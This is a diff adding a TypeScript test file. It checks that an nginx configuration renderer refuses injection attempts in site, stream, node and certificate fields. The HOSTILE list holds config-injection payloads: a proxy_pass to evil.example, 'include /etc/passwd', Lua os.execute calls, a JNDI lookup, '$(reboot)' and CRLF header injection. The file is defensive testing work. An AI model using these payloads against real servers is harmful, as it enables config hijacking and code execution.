@@ -1,0 +1,184 @@
+import type { EdgeSite, EdgeStream } from '@rampart/contracts';
+import { describe, expect, it } from 'vitest';
+import { makeSite, makeSnapshot, makeStream } from '../testing/snapshots.ts';
+import { renderMainConfig } from './nginx-conf.ts';
+import { RenderRefusal } from './quote.ts';
+import { renderSite, renderSiteBody } from './site.ts';
+import { renderStream, renderStreamBody } from './stream.ts';
+import { renderTree } from './tree.ts';
+import type { RenderOptions } from './types.ts';
+
+/** Values that would end a string, start a directive, interpolate a variable, open a comment or run Lua. */
+const HOSTILE = [
+  'a\r\nX-Injected: 1',
+  'a\nreturn 200;',
+  'a\rb',
+  'a\u0000b',
+  'a\tb',
+  'a"b',
+  "a'b",
+  'a{b',
+  'a}b',
+  'a;b',
+  '$host',
+  'a$request_uri',
+  'a#comment',
+  'a\\"b',
+  '`id`',
+  'x; proxy_pass http://evil.example;',
+  '"; return 200 "pwned',
+  "'; return 200 'pwned",
+  '} server { listen 1; } #',
+  'include /etc/passwd;',
+  'content_by_lua_block { os.execute("id") }',
+  "access_by_lua 'ngx.exit(200)';",
+  'set_by_lua $x "return os.getenv(\'HOME\')";',
+  // A log4j-style lookup, built so that it is not a template placeholder here.
+  `${'$'}{jndi:ldap://evil.example/a}`,
+  '$(reboot)',
+  'a\u2028b\u0085',
+];
+
+/** Values made of harmless characters that are still not what the field allows (shape, not syntax). */
+const MISSHAPEN = ['evil.example proxy_pass', 'include /etc/passwd', 'x y', '', ' ', '-', '../../etc/passwd'];
+
+type Path = Array<string | number>;
+
+/** `shape: false`: any text of safe characters is a valid value (header values); '' is valid for origin_host. */
+const SITE_FIELDS: Array<{ path: Path; base?: Partial<EdgeSite>; shape?: false; empty?: true }> = [
+  { path: ['domains', 0] },
+  { path: ['origins', 0, 'address'] },
+  { path: ['origins', 0, 'port'] },
+  { path: ['origins', 0, 'weight'], base: { balance: 'weighted' } },
+  { path: ['origin_host'], empty: true },
+  { path: ['balance'] },
+  { path: ['origin_protocol'] },
+  { path: ['request_headers', 0, 'name'], base: { request_headers: [{ name: 'X-A', value: 'b' }] } },
+  { path: ['request_headers', 0, 'value'], base: { request_headers: [{ name: 'X-A', value: 'b' }] }, shape: false },
+  { path: ['response_headers', 0, 'name'], base: { response_headers: [{ name: 'X-A', value: 'b' }] } },
+  { path: ['response_headers', 0, 'value'], base: { response_headers: [{ name: 'X-A', value: 'b' }] }, shape: false },
+  { path: ['cache_rules', 0, 'value'], base: { cache_rules: [rule('prefix', '/static/')] } },
+  { path: ['cache_rules', 0, 'value'], base: { cache_rules: [rule('extension', 'css')] } },
+  { path: ['cache_rules', 0, 'match'], base: { cache_rules: [rule('prefix', '/static/')] } },
+  { path: ['cache_rules', 0, 'ttl'], base: { cache_rules: [rule('prefix', '/static/')] } },
+  { path: ['id'] },
+];
+
+const STREAM_FIELDS: Path[] = [
+  ['listen_port'],
+  ['protocol'],
+  ['balance'],
+  ['id'],
+  ['origins', 0, 'address'],
+  ['origins', 0, 'port'],
+];
+
+function rule(match: 'prefix' | 'extension', value: string) {
+  return { match, value, ttl: 60, ignore_query: false, honor_origin: false };
+}
+
+function withValue<T>(base: T, path: Path, value: unknown): T {
+  const copy = structuredClone(base) as Record<string | number, unknown>;
+  let target = copy;
+  for (const key of path.slice(0, -1)) target = target[key] as Record<string | number, unknown>;
+  target[path.at(-1)!] = value;
+  return copy as T;
+}
+
+const siteContext = { node: makeSnapshot().node, listenAddress: '', cert: null };
+
+const OPTIONS: RenderOptions = {
+  paths: {
+    pidFile: '/data/nginx/run/nginx.pid',
+    errorLog: '/data/logs/error.log',
+    accessLog: '/data/logs/access.log',
+    streamLog: '/data/logs/stream.log',
+    tempDir: '/data/nginx/temp',
+    cacheDir: '/data/cache',
+    modulesDir: '/usr/lib/nginx/modules',
+  },
+  controlPort: 8190,
+  listenAddress: '',
+  workerProcesses: 'auto',
+  nginxUser: null,
+  applyId: 'test',
+};
+
+describe('the renderer refuses hostile values', () => {
+  for (const { path, base, shape, empty } of SITE_FIELDS) {
+    const name = `site ${path.join('.')}${base?.cache_rules ? ` (${base.cache_rules[0]!.match})` : ''}`;
+    it(`${name}: every hostile value is refused, with and without the schema check`, () => {
+      const misshapen = shape === false ? [] : MISSHAPEN.filter((value) => !(empty && value === ''));
+      for (const value of [...HOSTILE, ...misshapen]) {
+        const site = withValue(makeSite(base), path, value);
+        expect(() => renderSite(site, siteContext), JSON.stringify(value)).toThrow(RenderRefusal);
+      }
+      for (const value of HOSTILE) {
+        const site = withValue(makeSite(base), path, value);
+        expect(() => renderSiteBody(site, siteContext), JSON.stringify(value)).toThrow(RenderRefusal);
+      }
+    });
+  }
+
+  for (const path of STREAM_FIELDS) {
+    it(`stream ${path.join('.')}: every hostile value is refused, with and without the schema check`, () => {
+      for (const value of [...HOSTILE, ...MISSHAPEN]) {
+        const stream = withValue(makeStream(), path, value);
+        expect(() => renderStream(stream as EdgeStream, ''), JSON.stringify(value)).toThrow(RenderRefusal);
+      }
+      for (const value of HOSTILE) {
+        const stream = withValue(makeStream(), path, value);
+        expect(() => renderStreamBody(stream as EdgeStream, ''), JSON.stringify(value)).toThrow(RenderRefusal);
+      }
+    });
+  }
+
+  it('node settings and agent options: hostile values are refused', () => {
+    const node = makeSnapshot().node;
+    for (const value of HOSTILE) {
+      for (const field of ['http_port', 'https_port', 'max_cache_size_mb'] as const) {
+        expect(() => renderMainConfig(1, { ...node, [field]: value }, OPTIONS, false)).toThrow(RenderRefusal);
+      }
+      expect(() => renderMainConfig(1, node, { ...OPTIONS, applyId: value }, false)).toThrow(RenderRefusal);
+      expect(() => renderMainConfig(1, node, { ...OPTIONS, listenAddress: value }, false)).toThrow(RenderRefusal);
+      expect(() => renderMainConfig(1, node, { ...OPTIONS, nginxUser: value }, false)).toThrow(RenderRefusal);
+      expect(() =>
+        renderMainConfig(1, node, { ...OPTIONS, paths: { ...OPTIONS.paths, accessLog: value } }, false),
+      ).toThrow(RenderRefusal);
+      expect(() => renderSiteBody(makeSite(), { ...siteContext, listenAddress: value })).toThrow(RenderRefusal);
+    }
+  });
+
+  it('a snapshot full of hostile sites renders the good ones and reports every bad one', () => {
+    const sites = HOSTILE.map((value, i) => withValue(makeSite({ id: 100 + i }), ['domains', 0], value));
+    const streams = HOSTILE.map((value, i) =>
+      withValue(makeStream({ id: 200 + i, listen_port: 9000 + i }), ['origins', 0, 'address'], value),
+    );
+    const tree = renderTree(
+      makeSnapshot({ sites: [makeSite({ id: 1 }), ...sites], streams: [makeStream({ id: 2 }), ...streams] }),
+      OPTIONS,
+    );
+    expect(tree.sites).toEqual([1]);
+    expect(tree.streams).toEqual([2]);
+    expect(tree.errors).toHaveLength(HOSTILE.length * 2);
+    // The config is exactly what the good site and stream alone render to.
+    const clean = renderTree(makeSnapshot({ sites: [makeSite({ id: 1 })], streams: [makeStream({ id: 2 })] }), OPTIONS);
+    const configOf = (files: typeof tree.files) => files.filter((file) => file.path !== 'meta.json');
+    expect(configOf(tree.files)).toEqual(configOf(clean.files));
+  });
+
+  it('a hostile certificate is refused before anything is written', () => {
+    const tree = renderTree(
+      makeSnapshot({
+        certs: [{ id: 1, cert_pem: '-----BEGIN CERTIFICATE-----\n"; include /etc/passwd;\n', key_pem: 'x' }],
+        sites: [makeSite({ id: 1, https_listen: true, cert_id: 1 })],
+      }),
+      OPTIONS,
+    );
+    expect(tree.errors.map((e) => [e.kind, e.id])).toEqual([
+      ['cert', 1],
+      ['site', 1],
+    ]);
+    expect(tree.files.map((f) => f.path)).toEqual(['nginx.conf', 'meta.json']);
+  });
+});
